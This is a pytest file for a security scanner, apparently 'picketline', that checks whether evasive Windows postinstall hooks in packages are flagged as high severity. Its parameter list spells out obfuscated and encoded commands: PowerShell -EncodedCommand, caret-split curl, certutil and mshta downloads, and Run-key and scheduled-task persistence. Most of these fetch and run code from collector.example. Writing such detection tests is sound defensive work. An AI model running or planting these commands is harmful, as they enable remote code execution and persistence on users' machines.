"""Hooks that only Windows runs, and that hide what they run."""

import base64
from pathlib import Path

import pytest
from evasions_hooks import FETCH, THIEF, Files, package, scanned, worst

from picketline.core.model import Severity

_X = {"x.js": THIEF}
_UTF16 = base64.b64encode("iex (iwr https://collector.example/i.ps1)".encode("utf-16-le")).decode()
_COMMANDS: list[tuple[str, Files]] = [
    ("cmd /c node x.js", _X),
    ('cmd.exe /d /s /c "node x.js"', _X),
    ("%COMSPEC% /c node x.js", _X),
    ('%ComSpec% /C "node x.js"', _X),
    ("start /b node x.js", _X),
    ('start "" /min node x.js', _X),
    ("start /b cmd /c node x.js", _X),
    ("call x.bat", {"x.bat": f"@echo off\r\n{FETCH}\r\n"}),
    ("x.cmd", {"x.cmd": "@node x.js\r\n", **_X}),
    ("if exist x.js node x.js", _X),
    ("if exist x.js (node x.js) else (echo no)", _X),
    ("if not defined CI node x.js", _X),
    ("for %i in (x.js) do node %i", _X),
    ("n^ode x^.js", _X),
    ("c^u^rl -s https://collector.example/i -o i.exe & i.exe", {}),
    ("set a=node&& call %a% x.js", _X),
    ('forfiles /c "cmd /c node x.js"', _X),
    (f"powershell -enc {_UTF16}", {}),
    (f"powershell.exe -NoP -W Hidden -EncodedCommand {_UTF16}", {}),
    (f"pwsh -e {_UTF16}", {}),
    ('powershell -c "iwr https://collector.example/i.exe -OutFile i.exe; ./i.exe"', {}),
    ('powershell "& { node x.js }"', _X),
    ("powershell -Command node x.js", _X),
    ('powershell -c "Start-Process node x.js"', _X),
    (
        "certutil -urlcache -f https://collector.example/i.exe %TEMP%\\i.exe & %TEMP%\\i.exe",
        {},
    ),
    ("mshta https://collector.example/i.hta", {}),
    (
        "wscript x.vbs",
        {
            "x.vbs": 'CreateObject("WScript.Shell").Run "powershell -c iex(irm '
            'https://collector.example)"\n'
        },
    ),
    ("rundll32 x.dll,Go", {"x.dll": "MZ"}),
    ('schtasks /create /tn x /tr "node x.js" /sc onlogon', _X),
    ('reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d "node x.js"', _X),
]
_SCRIPTS = {"go": "node x.js", "test": "node x.js"}


@pytest.mark.parametrize(("script", "files"), _COMMANDS, ids=[each for each, _ in _COMMANDS])
def test_a_hook_is_followed(script: str, files: Files, tmp_path: Path) -> None:
    """What cmd and PowerShell start is told as what a shell of Unix starts."""
    scripts = {"postinstall": script, **_SCRIPTS}
    severity, chain = worst(scanned(tmp_path, package("", files, scripts=scripts)))
    assert severity >= Severity.HIGH
    assert chain.startswith("postinstall")
